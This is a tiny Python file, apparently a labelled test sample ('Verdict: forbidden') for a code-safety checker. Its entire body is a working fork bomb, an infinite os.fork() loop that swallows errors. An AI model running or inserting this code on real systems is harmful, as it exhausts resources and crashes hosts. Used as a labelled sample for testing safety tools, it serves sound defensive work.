"""Fork for ever, whatever comes of it.

Verdict: forbidden
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
